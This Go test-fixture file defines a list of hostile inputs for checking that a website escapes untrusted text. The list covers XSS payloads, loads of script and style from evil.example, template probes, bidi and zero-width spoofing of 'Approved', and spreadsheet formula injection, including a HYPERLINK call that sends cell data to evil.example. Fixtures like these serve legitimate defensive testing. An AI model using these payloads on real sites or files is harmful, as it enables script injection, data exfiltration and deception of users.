package sitetest

import "strings"

// Hostile are texts that would be more than text on a page that is not careful:
// elements, attributes, scripts, formulas, templates, and letters that hide or
// turn others around.
func Hostile() []string {
	return []string{
		`<script>alert(1)</script>`,
		`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
		`</script><script>alert(1)</script>`,
		`</title><script>alert(1)</script>`,
		`</textarea><img src=x onerror=alert(1)>`,
		`</style><style>*{display:none}</style>`,
		`</pre></details><h1>Approved</h1>`,
		`</td></tr></table><form action=//evil.example><input name=q>`,
		`<img src=x onerror=alert(1)>`,
		`<svg onload=alert(1)>`,
		`<svg><script>alert(1)</script></svg>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<iframe src="javascript:alert(1)"></iframe>`,
		`<object data="data:text/html,<script>alert(1)</script>"></object>`,
		`<meta http-equiv="refresh" content="0;url=//evil.example">`,
		`<base href="//evil.example/">`,
		`<link rel=stylesheet href=//evil.example/x.css>`,
		`<a href="javascript:alert(1)">Approved by ana</a>`,
		`" onmouseover="alert(1)`,
		`' onfocus='alert(1)' autofocus='`,
		`"><script>alert(1)</script>`,
		"` onclick=alert(1) x=`",
		`x" style="position:fixed;inset:0" class="status Approved`,
		`javascript:alert(1)`,
		"java\tscript:alert(1)",
		` JaVaScRiPt://x%0aalert(1)`,
		`data:text/html,<script>alert(1)</script>`,
		`{{.Page}}{{template "base"}}{{7*7}}`,
		`${alert(1)} #{7*7} <%= 7*7 %>`,
		`<!-- <script> -->`,
		`--><script>alert(1)</script><!--`,
		`<![CDATA[<script>alert(1)</script>]]>`,
		`&lt;script&gt;alert(1)&lt;/script&gt; &amp;quot; &#60;b&#62;`,
		`\u003cscript\u003e \x3cscript\x3e %3Cscript%3E`,
		"line\u2028separator\u2029paragraph');alert(1)//",
		"\u202eevorppA\u202c \u2066x\u2069 \u200bA\u200bp\u200bproved",
		`=cmd|' /C calc'!A0`,
		`@SUM(1+1)*HYPERLINK("http://evil.example?x="&A1,"Approved")`,
		"null\x00byte \x1b[31mred\x07 \ufffd",
		strings.Repeat("long", 200) + "<b>",
	}
}
